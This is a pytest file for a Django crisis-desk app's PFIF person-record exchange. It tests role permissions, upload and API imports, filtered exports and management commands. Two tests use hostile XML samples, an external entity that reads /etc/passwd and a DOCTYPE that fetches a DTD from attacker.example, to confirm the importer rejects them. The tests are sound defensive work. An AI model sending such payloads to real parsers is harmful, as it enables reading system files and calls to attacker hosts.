"""Where people reach the PFIF exchange: the staff page /staff/pfif/ (upload, download with a
since-filter, a batch's rejected records), the API (/api/v1/pfif/persons, /api/v1/pfif/import)
and the commands pfif_export and pfif_import. Permission `pfif.exchange`: admin and desk chief.
"""

from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import override_settings
from django.urls import reverse

from crisisdesk.common.models import AuditEvent
from crisisdesk.pfif.audit_actions import PFIF_EXPORTED, PFIF_IMPORTED
from crisisdesk.pfif.models import PfifBatch
from crisisdesk.pfif.tests.conftest import GOLDEN
from crisisdesk.registry.models import Person

pytestmark = pytest.mark.django_db

CONTENT = (GOLDEN / "import_personfinder.xml").read_bytes()
ALLOWED = {"admin", "desk_chief"}
DENIED = {
    "consul",
    "border_officer",
    "case_officer",
    "logistics_officer",
    "diplomat",
    "senior_diplomat",
    "political_director",
}


@pytest.fixture
def batch(users):
    from crisisdesk.common.origin import SYSTEM
    from crisisdesk.pfif.imports import pfif_import

    return pfif_import(actor=users["desk_chief"], origin=SYSTEM, file_name="pf.xml", content=CONTENT).batch


def _pages(batch) -> list[str]:
    return [
        reverse("pfif:exchange"),
        reverse("pfif:export") + "?since=2026-03-01",
        reverse("pfif:batch_detail", args=[batch.pk]),
    ]


@pytest.mark.parametrize("persona", sorted(ALLOWED | DENIED | {"anonymous"}))
def test_permission_matrix_of_the_pages(as_persona, batch, persona):
    client = as_persona(persona)
    expected = 200 if persona in ALLOWED else 403 if persona in DENIED else 302
    for url in _pages(batch):
        response = client.get(url)
        assert response.status_code == expected, (url, persona)
        if expected == 302:
            assert response["Location"].startswith(reverse("accounts:login"))
    upload = SimpleUploadedFile("pf.xml", CONTENT, content_type="application/xml")
    response = client.post(reverse("pfif:exchange"), {"file": upload})
    assert response.status_code == (302 if persona in ALLOWED else expected)
    assert PfifBatch.objects.count() == (2 if persona in ALLOWED else 1)


@pytest.mark.parametrize("persona", sorted(ALLOWED | DENIED | {"anonymous"}))
def test_permission_matrix_of_the_api(api, users, persona):
    client = api(persona)
    expected = 200 if persona in ALLOWED else 403 if persona in DENIED else 401
    assert client.get("/api/v1/pfif/persons").status_code == expected
    response = client.post("/api/v1/pfif/import", CONTENT, content_type="application/xml")
    assert response.status_code == (201 if persona in ALLOWED else expected)
    assert PfifBatch.objects.count() == (1 if persona in ALLOWED else 0)


def test_upload_imports_and_shows_the_batch_with_its_rejected_records(as_persona):
    client = as_persona("desk_chief")

    response = client.post(reverse("pfif:exchange"), {"file": SimpleUploadedFile("pf.xml", CONTENT)}, follow=True)

    page = response.content.decode()
    assert 'data-testid="pfif-batch-facts"' in page
    assert "5 records: 3 added, 0 already here, 2 rejected." in page
    assert page.count('data-testid="pfif-rejected"') == 7
    assert "sex is female, male or other." in page
    assert 'data-position="14"' in page
    nav = client.get(reverse("pfif:exchange")).content.decode()
    assert 'data-testid="nav-pfif"' in nav and 'data-testid="pfif-batch"' in nav


def test_a_hostile_upload_gets_its_reason_on_the_page_and_writes_nothing(as_persona):
    client = as_persona("desk_chief")
    hostile = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'

    response = client.post(reverse("pfif:exchange"), {"file": SimpleUploadedFile("evil.xml", hostile)})

    assert response.status_code == 422
    assert "document type declaration" in response.content.decode()
    assert not PfifBatch.objects.exists() and not Person.objects.exists()


def test_download_with_a_since_filter(as_persona, batch):
    client = as_persona("desk_chief")

    response = client.get(reverse("pfif:export"), {"since": "2026-03-01"})

    assert response["Content-Type"] == "application/xml; charset=utf-8"
    assert "attachment" in response["Content-Disposition"] and "since-2026-03-01" in response["Content-Disposition"]
    assert response.content.count(b"<pfif:person>") == 3
    assert AuditEvent.objects.get(action=PFIF_EXPORTED).channel == "web"
    assert client.get(reverse("pfif:export"), {"since": "yesterday"}).status_code == 422


def test_the_api_feed_pages_and_filters_like_person_finder(api, batch):
    client = api("desk_chief")

    first = client.get("/api/v1/pfif/persons", {"max_results": 2})
    rest = client.get("/api/v1/pfif/persons", {"skip": 2, "max_results": 2})
    later = client.get("/api/v1/pfif/persons", {"min_entry_date": "2099-01-01T00:00:00Z"})

    assert first["Content-Type"] == "application/xml; charset=utf-8"
    assert (first.content.count(b"<pfif:person>"), rest.content.count(b"<pfif:person>")) == (2, 1)
    assert later.content.count(b"<pfif:person>") == 0
    bad = client.get("/api/v1/pfif/persons", {"min_entry_date": "soon"})
    assert (bad.status_code, bad.json()["code"]) == (422, "since_invalid")


def test_the_api_import_answers_counts_and_reasons(api):
    response = api("desk_chief").post("/api/v1/pfif/import?file_name=feed.xml", CONTENT, content_type="application/xml")

    body = response.json()
    assert body["persons"] == {"total": 5, "imported": 3, "skipped": 0, "rejected": 2}
    assert body["notes"] == {"total": 9, "imported": 4, "skipped": 0, "rejected": 5}
    assert body["links_queued"] == 1
    assert body["first_rejected"][0]["errors"] == {"sex": ["sex_invalid"], "date_of_birth": ["birth_date_invalid"]}
    assert AuditEvent.objects.get(action=PFIF_IMPORTED).channel == "api"
    assert PfifBatch.objects.get().file_name == "feed.xml"


@override_settings(PFIF_IMPORT_MAX_BYTES=1000)
def test_the_api_refuses_a_body_over_the_cap(api):
    response = api("desk_chief").post("/api/v1/pfif/import", CONTENT, content_type="application/xml")

    assert (response.status_code, response.json()["code"]) == (422, "file_too_large")
    assert not Person.objects.exists()


def test_the_commands_import_and_export(users, tmp_path):
    source = tmp_path / "pf.xml"
    source.write_bytes(CONTENT)
    out = StringIO()

    call_command("pfif_import", str(source), "--actor", "desk_chief", stdout=out)

    assert "persons         5         3        0         2" in out.getvalue()
    assert "sex_invalid" in out.getvalue()
    target = tmp_path / "out.xml"
    out = StringIO()
    call_command("pfif_export", "--actor", "desk_chief", "--output", str(target), "--since", "2026-01-01", stdout=out)
    assert out.getvalue().strip() == f"3 persons, 4 notes written to {target}"
    assert target.read_bytes().count(b"<pfif:person>") == 3
    assert AuditEvent.objects.get(action=PFIF_EXPORTED).channel == "cli"


def test_the_commands_refuse_clearly(users, tmp_path):
    hostile = tmp_path / "evil.xml"
    hostile.write_bytes(b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>')
    with pytest.raises(CommandError, match="document type declaration"):
        call_command("pfif_import", str(hostile), "--actor", "desk_chief")
    with pytest.raises(CommandError, match="may not exchange PFIF"):
        call_command("pfif_import", str(hostile), "--actor", "consul")
    with pytest.raises(CommandError, match="--actor"):
        call_command("pfif_export", "--output", str(tmp_path / "x.xml"))
    with pytest.raises(CommandError, match="--since"):
        call_command("pfif_export", "--actor", "admin", "--output", str(tmp_path / "x.xml"), "--since", "soon")
    assert not Person.objects.exists()


def test_the_page_reads_right_to_left_in_hebrew(as_persona, batch):
    client = as_persona("desk_chief")

    page = client.get(reverse("pfif:exchange"), headers={"accept-language": "he"}).content.decode()

    assert 'dir="rtl"' in page
    assert "<bdi>pf.xml</bdi>" in page  # names of files isolated in the right-to-left text


def test_the_api_takes_a_body_larger_than_djangos_form_limit(api, settings):
    padded = CONTENT.replace(
        b"<pfif:person>", b"<!--" + b"x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1) + b"--><pfif:person>", 1
    )

    response = api("desk_chief").post("/api/v1/pfif/import", padded, content_type="application/xml")

    assert response.status_code == 201, response.content[:200]
    assert response.json()["persons"]["imported"] == 3
